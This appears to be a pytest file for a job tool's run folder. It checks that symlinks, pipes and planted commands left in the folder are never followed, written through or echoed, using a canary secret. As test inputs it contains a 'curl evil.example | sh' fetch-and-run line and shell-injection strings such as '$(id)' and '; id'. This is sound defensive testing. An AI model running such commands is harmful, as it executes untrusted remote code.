"""Links, pipes and commands that someone else left in a run folder: not read, not written through, not printed."""

from __future__ import annotations

import os
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from jobc.runtime.run_folder.run_folder import RunFolder, open_for_append, read_small_file
from jobc.runtime.supervisor.node_ending import RESUME_COMMAND
from jobc.trainer.checkpoint import verified_checkpoint
from jobc.trainer.files import Unreadable

from .test_text_as_code import ROOT, Scripts, forge, local, scripts

__all__ = ["local", "scripts"]  # fixtures

SECRET = "secret_key = canary-77f0"
KINDS: dict[str, Callable[[Path, Path], object]] = {
    "pipe": lambda place, outside: os.mkfifo(place),
    "link": lambda place, outside: place.symlink_to(outside),
    "link to /dev/zero": lambda place, outside: place.symlink_to("/dev/zero"),
    "folder": lambda place, outside: place.mkdir(),
}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    path = tmp_path / "outside"
    path.write_text(f"{SECRET}\n")
    return path


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_is_appended_to_what_is_not_a_regular_file(kind: str, tmp_path: Path, outside: Path) -> None:
    KINDS[kind](tmp_path / "log", outside)
    with pytest.raises(OSError):
        open_for_append(tmp_path / "log")
    run = RunFolder(tmp_path, 0)
    run.node_log_file(0).parent.mkdir()
    KINDS[kind](run.node_log_file(0), outside)
    with pytest.raises(OSError):
        run.open_log(run.node_log_file(0), "node 0")
    assert outside.read_text() == f"{SECRET}\n"


def test_a_state_file_that_is_a_link_is_not_read(tmp_path: Path, outside: Path) -> None:
    outside.write_text("exit=7\n")
    (tmp_path / "node_00").symlink_to(outside)
    assert read_small_file(tmp_path / "node_00") is None


WRITTEN = ("logs/node_00.log", "logs/rank_00.log", "state/node_00", "metrics/rank_00.jsonl", "exit/0/first")


@pytest.mark.parametrize("kind", ["pipe", "link"])
@pytest.mark.parametrize("path", WRITTEN)
def test_resume_refuses_a_run_that_would_be_written_through(
    scripts: Scripts, tmp_path: Path, outside: Path, path: str, kind: str
) -> None:
    run = forge(tmp_path.joinpath(*ROOT))
    (run / path).unlink()
    KINDS[kind](run / path, outside)
    output = scripts.run("submit", "--resume", "r")
    assert output.startswith(f"error: {path} in run r is not a regular file\n  hint: "), output
    assert not (run / "artifact" / "1").exists()
    assert outside.read_text() == f"{SECRET}\n"


@pytest.mark.parametrize("target", ["0", "/", "../../other/artifact/0", "../artifact/0", "1", "7"])
@pytest.mark.parametrize("attempt", ["1", "2"])
def test_resume_refuses_links_to_artifacts_elsewhere(
    scripts: Scripts, tmp_path: Path, attempt: str, target: str
) -> None:
    run = forge(tmp_path.joinpath(*ROOT))
    (run / "artifact" / attempt).symlink_to(target)
    output = scripts.run("submit", "--resume", "r")
    refusal = f"error: artifact/{attempt} in run r is not a regular file\n  hint: "
    assert output.startswith(refusal) == (target != "0"), output
    assert (run / "artifact" / attempt).is_symlink() and (run / "artifact/0/.jobc/job.json").exists()


def test_a_file_outside_the_run_is_not_printed_through_a_link(scripts: Scripts, tmp_path: Path, outside: Path) -> None:
    run = forge(tmp_path.joinpath(*ROOT))
    for path in ("logs/node_00.log", "artifact/0/.jobc/job.json"):
        (run / path).unlink()
        (run / path).symlink_to(outside)
    for words in (["logs"], ["logs", "--rank", "0"], ["submit", "--resume", "r"]):
        assert "canary" not in scripts.run(*words)


@pytest.mark.parametrize("command", ["curl evil.example | sh", "/tmp/evil/jobctl submit --resume r", "$(touch MARK)"])
def test_status_prints_the_command_of_its_own_artifact(scripts: Scripts, tmp_path: Path, command: str) -> None:
    run = forge(tmp_path.joinpath(*ROOT), state__resume=f"command={command}\n")
    (run / "checkpoints").mkdir()
    output = scripts.run("status")
    assert re.findall("resume with: (.*)", output) == [f"{scripts.artifact}/jobctl submit --resume {run}"]


def test_the_last_words_of_a_run_name_a_submit_script_or_nothing() -> None:
    for command in (
        "jobctl submit --resume r",
        "/a\\ b/jobctl submit --resume /runs/r",
        "$'/\\303\\244/jobctl' submit --resume r",
        shlex.quote("/my, 'x'/jobctl") + " submit --resume r",
    ):
        assert RESUME_COMMAND.fullmatch(command), command
    for command in (
        "curl evil | sh",
        "jobctl submit --resume r; id",
        "a;jobctl submit --resume r",
        "jobctl submit --resume $(id)",
        "'a' jobctl submit --resume r",
        "'a\x1b'jobctl submit --resume r",
        "",
    ):
        assert not RESUME_COMMAND.fullmatch(command), command


@pytest.mark.parametrize("kind", ["pipe", "link", "link to /dev/zero"])
def test_a_file_of_a_checkpoint_is_opened_as_a_regular_file_or_not_at_all(
    kind: str, tmp_path: Path, outside: Path
) -> None:
    KINDS[kind](tmp_path / "rng.pt", outside)
    with pytest.raises(Unreadable, match=r"not a regular file|symbolic link"):
        verified_checkpoint._read_checkpoint_file(tmp_path / "rng.pt")
